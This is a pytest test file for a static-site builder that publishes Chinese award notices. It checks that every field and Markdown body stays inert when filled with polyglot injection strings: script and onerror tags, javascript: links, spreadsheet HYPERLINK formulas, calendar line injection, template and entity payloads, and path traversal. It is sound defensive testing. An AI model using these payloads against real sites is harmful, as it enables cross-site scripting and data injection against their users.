"""Whatever stands in a record stays words: in every field, in every file of the site, in a real browser."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import pytest
from lxml import etree
from playwright.sync_api import Browser, Dialog, Page
from pydantic import BaseModel

from conftest import AFTER, copied
from fields import Leaf, Records
from gongshi.clock import parse_moment
from gongshi.findings import errors
from gongshi.law.check import check
from gongshi.outputs import search as outputs_search
from gongshi.outputs.markdown import markdown
from gongshi.publish.build import build_site
from gongshi.records.fields import Shape
from gongshi.records.links import is_link
from gongshi.records.markdown import forbidden_in, links_in
from gongshi.reports import FORMATS
from gongshi.views import event_text, history
from gongshi.views.shards import shards
from outputs import Tree, by_meaning, files, html, read
from test_browser import every_kind

HOSTILE = (
    """HYPERLINK("https://foreign.example/?"&A1,"x");,:BEGIN:VEVENT\\nATTENDEE;X=1:y"""
    """<script>window.pwned=1</script>"><img src=x onerror=window.pwned=1>' onmouseover='window.pwned=1' x='"""
    """</title></style></textarea></script><svg onload=window.pwned=1><a href=javascript:window.pwned=1>"""
    """&lt;script&gt;&#60;b&#62;&amp; javascript:window.pwned=1 {{ 7*7 }}{% raw %}{# ${evil} %s {0} \\u003c"""
    """]]><!ENTITY x "y">&x;<!-- gongshi:footer --><!-- gongshi:record -->--><![CDATA["""
)
"""Breaks out of text, attributes, titles, styles, scripts, comments, XML, templates, tables and calendars alike."""
LEADS = "=+-@"
"""What makes a cell a formula; every field begins with one of them."""
KEY = """'"><script>window.pwned=1</script>{{7*7}}]]>"""
PAYLOAD = re.compile(rf"[{LEADS}]{re.escape(HOSTILE)}(\d+)。")
DIGEST = re.compile(r"[0-9a-f]{64}|[0-9a-f]{12}…|[A-Za-z0-9+/]{43}=|\d+(\.\d)? (KB|MB|字节)")
"""What follows from the bytes of a file: digests, and sizes that a page names."""
SIZES = {"bytes"}
"""Fields that name a size."""
BODY = """## `{0}`

- *甲* `{0}`
- [乙](https://standard.example/?a=1&b=2 "丙")

| 甲 | `{0}` |
|:-:|--:|
| `{0}` | 乙 |

```"><img
{0}
```

    {0}
"""
"""The places of a text where words need no Markdown escapes; HTML anywhere else is refused."""
ADDRESSES = {"Redirects.pages"}
"""Text that the build refuses, not the check, since only the site can tell."""
REFUSED = {
    "Decision.document_number": "it has the form that the measures give",
    "Revocation.document_number": "the same",
}
"""Fields of free text in which a rule refuses the payload."""
UNSHOWN = {"Office.place", "Issuer.former_names", "SpecialDay.name"}
"""Fields that no page shows."""


def hostile(number: int) -> str:
    """A payload; its number tells which words it stands for."""
    return f"{LEADS[number % len(LEADS)]}{HOSTILE}{number}。"


def harmless(number: int) -> str:
    """The words that stand there in the site that it is compared with."""
    return f"字{number}。"


def disarmed(tree: Tree) -> Tree:
    """The tree with the words of the harmless site in the place of payloads, and without digests."""
    if isinstance(tree, str):
        return DIGEST.sub("", PAYLOAD.sub(lambda match: harmless(int(match[1])), tree))
    if isinstance(tree, list):
        return [disarmed(each) for each in tree]
    if isinstance(tree, dict):
        return {str(disarmed(key)): disarmed(each) for key, each in tree.items() if key not in SIZES}
    return tree


def with_examples(records: Records) -> Records:
    """Of every type that the demo data has none of, one; then every field that may be left out."""
    records.values["data/calendar/2025.yml"]["make_up_days"] = [{"day": "2025-09-28", "name": "国庆节"}]
    records.values["data/redirects.yml"] = {"pages": {"faq.html": "apply.html"}}
    announcement = records.values["data/notices/2026/announcement-training.yml"]
    erased = {"sha256": "0" * 64, "erased": "2026-11-01T09:00+08:00", "reason": "个人信息", "basis": "有关规定"}
    announcement["tombstones"] = [erased]
    revocation = records.values["data/notices/2026/revocation-gold-2023.yml"]
    revocation["cause"] = {"text": "有关事由", "lies_with": "示例分公司", "relation": "分公司"}
    records.complete()
    return records


def worded(words: Callable[[int], str]) -> Callable[[Leaf], str]:
    """Text for every field. What was the same stays the same, so that what has to agree still agrees."""
    numbers: dict[str, int] = {}

    def text(leaf: Leaf) -> str:
        given = words(numbers.setdefault(leaf.written, len(numbers)))
        return BODY.format(given) if leaf.field.endswith(".body") else given

    return text


def built(project: Path) -> Path:
    done = build_site(project, project / "site", parse_moment(AFTER))
    assert done.site, done.findings
    return project / "site"


@dataclass(frozen=True)
class Sites:
    """Two sites, from records that differ in their words alone."""

    shapes: set[type[BaseModel]]
    leaves: list[Leaf]
    filled: set[Leaf]
    hostile: Path
    harmless: Path


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> Sites:
    """Both built; what a record may not hold has been a finding at its place, else `accepted` fails."""
    folder = tmp_path_factory.mktemp("words")
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.setattr(history, "MOST_TEXT", 1_000_000)  # payloads are longer than plain words, and would be cut
    monkeypatch.setattr(event_text, "MOST_TEXT", 1_000_000)
    monkeypatch.setattr(outputs_search, "shards", partial(shards, newest=1_000_000))  # one, however long they are
    records = with_examples(Records(copied(folder / "hostile")))
    leaves = [leaf for leaf in records.leaves() if leaf.route[-1] != "form" and leaf.field not in ADDRESSES]
    filled = records.accepted(leaves, worded(hostile))
    records.root = copied(folder / "harmless")
    texts = worded(harmless)
    every = {leaf: texts(leaf) for leaf in leaves}
    records.write({leaf: every[leaf] for leaf in filled})
    found = Sites(records.shapes, leaves, set(filled), built(folder / "hostile"), built(records.root))
    monkeypatch.undo()
    return found


def test_every_output_says_the_same_in_other_words(sites: Sites) -> None:
    """Parsed as their readers do, all files are equal value by value once payloads are put back into plain words; so
    none has ended a tag, an attribute, a cell, a line or a text, and none is lost. What is dangerous anyway raises.
    """
    one, other = by_meaning(files(sites.hostile)), by_meaning(files(sites.harmless))
    assert one.keys() == other.keys()
    differing = [name for name in one if disarmed(read(name, one[name])) != disarmed(read(name, other[name]))]
    assert differing == []


def test_payloads_reach_the_reader(sites: Sites) -> None:
    """Nearly every field of free text is on some page or in some file, so the test above has something to compare."""
    text = "".join(content.decode() for name, content in files(sites.harmless).items() if name.endswith(".html"))
    written = {leaf: number for number, leaf in enumerate(dict.fromkeys(leaf.written for leaf in sites.leaves))}
    shown = {leaf.field for leaf in sites.filled if harmless(written[leaf.written]) in text}
    assert {leaf.field for leaf in sites.filled} - shown <= UNSHOWN


def test_every_field_of_free_text_is_tried(sites: Sites) -> None:
    """Of every type of record there is an example; what is not filled is no free text, or a rule refuses it."""
    shapes, kinds = set[type[BaseModel]](), [Shape]
    while kinds:
        shape = kinds.pop()
        below = [each for each in shape.__subclasses__() if each.__module__.startswith("gongshi.records.")]
        kinds += below
        if shape.__module__.startswith("gongshi.records.") and not below:
            shapes.add(shape)
    assert shapes <= sites.shapes
    unfilled = {leaf.field for leaf in sites.leaves} - {leaf.field for leaf in sites.filled}
    for leaf in sites.leaves:
        if leaf.field in unfilled - REFUSED.keys():
            assert not re.search(r"[\u4e00-\u9fff]", leaf.written), f"{leaf.field} holds words; why not these?"


def test_records_are_published_to_the_byte(sites: Sites) -> None:
    """As hostile as they are: only the programs that show them have to take care."""
    data = sites.hostile.parent / "data"
    sources = {path.read_bytes() for path in data.rglob("*.yml")}
    published = [content for name, content in files(sites.hostile).items() if name.endswith(".yml")]
    assert published
    assert set(published) <= sources


UNWRITABLE = [
    "甲\nATTENDEE:乙",
    "甲\r\nBEGIN:VEVENT",
    "\t=1+1",
    " =1",
    "甲\u2028</script>",
    "甲\u202e乙",
    "甲\x00",
    "甲\x1b[2J",
]
"""Line breaks, tabs and blanks around, and what is not seen or turns the text around."""


def test_what_no_line_may_hold_is_a_finding_at_its_place(tmp_path: Path) -> None:
    """In every field of every record, whatever its type."""
    records = with_examples(Records(copied(tmp_path / "project")))
    # Whoever cannot tell the kind of a notice reads no further; what a term may hold its rule says.
    tried = [leaf for leaf in records.leaves() if not leaf.field.endswith((".body", ".kind", ".terms", ".pages"))]
    leaves = list({(leaf.path, leaf.field): leaf for leaf in tried}.values())  # of each file no more than are listed
    for words in UNWRITABLE:
        loaded = records.write(dict.fromkeys(leaves, words))
        found = set(records.places(loaded, loaded.findings, leaves))
        assert set(leaves) - found == set(), words
        assert all(FORMATS[form](loaded.findings) for form in FORMATS)


BODIES = {
    "[甲](javascript:window.pwned=1)": True,
    "[甲](JaVaScRiPt:window.pwned=1)": True,
    "[甲](java&#10;script:window.pwned=1)": False,
    "[甲](&#106;avascript:window.pwned=1)": True,
    "[甲](data:text/html,<script>window.pwned=1</script>)": False,
    "[甲](vbscript:pwned)": True,
    "[甲](//foreign.example/)": False,
    "[甲](../../../etc/passwd)": False,
    "[甲](mailto:a.example)": False,
    "[甲][乙]\n\n[乙]: javascript:window.pwned=1": True,
    "<javascript:window.pwned=1>": True,
    "![甲](https://foreign.example/a.png)": False,
    "![甲][乙]\n\n[乙]: https://foreign.example/a.png": False,
    "<script>window.pwned=1</script>": False,
    "甲<img src=x onerror=window.pwned=1>": True,
    "| 甲 |\n|:-:|\n| <b style=color:red>乙</b> |": False,
    "<!-- gongshi:footer -->": False,
    "<?php ?>": False,
    "<![CDATA[甲]]>": False,
    "甲&#8238;乙": False,
    '[甲](https://foreign.example/"onmouseover=window.pwned=1)': True,
    "[甲](https://foreign.example/ '\"><script>window.pwned=1</script>')": True,
    "<https://foreign.example/?a=1&b=javascript:window.pwned=1>": True,
    "&lt;script&gt;window.pwned=1&lt;/script&gt;": True,
    "\\<script>window.pwned=1\\</script>": True,
    "`<script>window.pwned=1</script>` `{{ 7*7 }}{% raw %}`": True,
    "    <!-- gongshi:footer -->": True,
    '```"onload=window.pwned=1\n</code></pre><script>window.pwned=1</script>\n```': True,
    "| 甲 | 乙 |\n|:-:|--:|\n| `</td>` | &quot;> |": True,
    "=HYPERLINK(1)\n=====\n\nBEGIN:VEVENT\nATTENDEE:mailto:x\nEND:VEVENT": True,
    "&#x3c;img src=x onerror=window.pwned=1&#x3e; &amp;lt;b&amp;gt;": True,
    '[window.pwned]: https://foreign.example/ "<script>"\n\n[window.pwned]': True,
}
"""Markdown that a body might hold, and whether it may."""


@pytest.mark.parametrize("body", BODIES)
def test_markdown_is_refused_or_harmless(body: str) -> None:
    """What is let in comes out as plain structure, with links that the reader can see."""
    refused = forbidden_in(body) or not all(is_link(target) for target in links_in(body))
    assert bool(refused) is not BODIES[body]
    if not refused:
        tree = html(markdown(body, str).encode())
        tags = {str(token[0]) for token in tree if isinstance(token, list)} if isinstance(tree, list) else set()
        assert tags <= {"a", "code", "h2", "p", "pre", "table", "tbody", "td", "text", "th", "thead", "tr"}


def test_keys_are_refused_or_words(tmp_path: Path) -> None:
    """What names an entry is as foreign as what stands in it. Keys that make addresses are refused."""
    project = copied(tmp_path / "project")
    records = Records(project)
    office, measures = (records.values[f"data/awards/{name}.yml"] for name in ("office", "measures/2022-6"))
    measures["provisions"][KEY] = {**measures["provisions"]["storage"], "terms": {KEY: "1"}}
    records.write({})
    for name, content in files(built(project)).items():
        read(name, content)
    for key in ("towns", "issuers"):
        office[key][KEY] = next(iter(office[key].values()))
    found = errors(records.write({}).findings)
    assert [each.message[-5:] for each in found] == ["不能作代号"] * 2


def test_a_page_leads_on_to_the_site_alone(tmp_path: Path) -> None:
    """Redirects from or to anything else than a page are findings, each at its line, and nothing is written."""
    records = Records(copied(tmp_path / "project"))
    pages = {
        "a.html": hostile(1),
        "<script>.html": "apply.html",
        "../b.html": "apply.html",
        "c.html": "javascript:window.pwned=1",
    }
    pages |= {"d.html": "//foreign.example/", "e.html": "https://foreign.example/"}
    records.values["data/redirects.yml"] = {"pages": pages}
    records.write({})
    found = errors(build_site(records.root, records.root / "site", parse_moment(AFTER)).findings)
    assert {(each.place.path, each.place.line) for each in found} == {
        ("data/redirects.yml", line) for line in range(2, 2 + len(pages))
    }
    assert not (records.root / "site").exists()


def test_a_payload_as_a_regular_expression_is_a_finding(tmp_path: Path) -> None:
    """No document number fits it, or it is none."""
    records = Records(copied(tmp_path / "project"))
    form = next(leaf for leaf in records.leaves() if leaf.route[-1] == "form")
    for words in (hostile(1), "(" + HOSTILE, "[", "(a+)+$"):
        assert errors(check(records.write({form: words})))


def test_front_matter_cannot_leave_its_attributes(tmp_path: Path) -> None:
    """The office's own pages are trusted prose, but a quotation mark in a title must not break the page."""
    project = copied(tmp_path / "project")
    about, words = project / "content" / "about.md", "甲\"乙'丙&丁"
    text = re.sub(r"^(title|description): .*$", rf"\1: {words}", about.read_text(encoding="utf-8"), flags=re.MULTILINE)
    about.write_text(text, encoding="utf-8")
    tree = read("about.html", (built(project) / "about.html").read_bytes())
    metas = (
        [token for token in tree if isinstance(token, list) and token[0] == "meta"] if isinstance(tree, list) else []
    )
    assert sum(["content", words] in token for token in metas) >= 4


OUTLINE = """() => [...document.querySelectorAll('*')].map(
  element => element.tagName + ' ' + element.getAttributeNames().sort())"""


def listened(browser: Browser, *, bypass_csp: bool) -> tuple[Page, list[str]]:
    """A page, and whatever it does from now on that it should not."""
    page, wrong = browser.new_page(bypass_csp=bypass_csp), list[str]()

    def on_dialog(dialog: Dialog) -> None:
        wrong.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("console", lambda message: wrong.extend([message.text] if message.type == "error" else []))
    page.on("dialog", on_dialog)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("request", lambda asked: wrong.extend([] if asked.url.startswith("file://") else [asked.url]))
    return page, wrong


def _kinds(site: Path) -> list[str]:
    return [address for address in every_kind(site) if address != "404.html"]  # which is only ever served


@pytest.mark.browser
def test_escaping_alone_keeps_words_words(sites: Sites, browser: Browser) -> None:
    """With the content security policy out of force, every kind of page has the same elements and attributes in the
    browser whether its words are payloads or not, and no script of theirs has run.
    """
    page, wrong = listened(browser, bypass_csp=True)
    for address in _kinds(sites.hostile):
        outlines = []
        for site in (sites.harmless, sites.hostile):
            page.goto((site / address).as_uri())
            outlines.append(page.evaluate(OUTLINE))
        assert outlines[0] == outlines[1], address
        assert page.evaluate("window.pwned") is None, address
    assert wrong == []
    page.close()


@pytest.mark.browser
def test_the_policy_finds_nothing_to_stop(sites: Sites, browser: Browser) -> None:
    """As a reader opens them: no script runs, nothing is asked for elsewhere, and the policy has nothing to report."""
    page, wrong = listened(browser, bypass_csp=False)
    for address in _kinds(sites.hostile):
        page.goto((sites.hostile / address).as_uri())
        assert page.evaluate("window.pwned") is None, address
    assert wrong == []
    page.close()


@pytest.mark.browser
def test_no_script_of_a_feed_runs(sites: Sites, browser: Browser) -> None:
    """Not even in a reader of feeds that shows as HTML all that RSS lets it."""
    page, wrong = listened(browser, bypass_csp=True)
    feed = etree.parse(sites.hostile / "feeds" / "all.xml")
    texts = [each.text or "" for each in feed.iter("{http://purl.org/rss/1.0/modules/content/}encoded", "description")]
    assert len(texts) > 20
    page.set_content("<hr>".join(texts))
    found = "[document.querySelectorAll('hr').length, window.pwned, document.scripts.length, document.images.length]"
    assert page.evaluate(found) == [len(texts) - 1, None, 0, 0]
    assert wrong == []
    page.close()
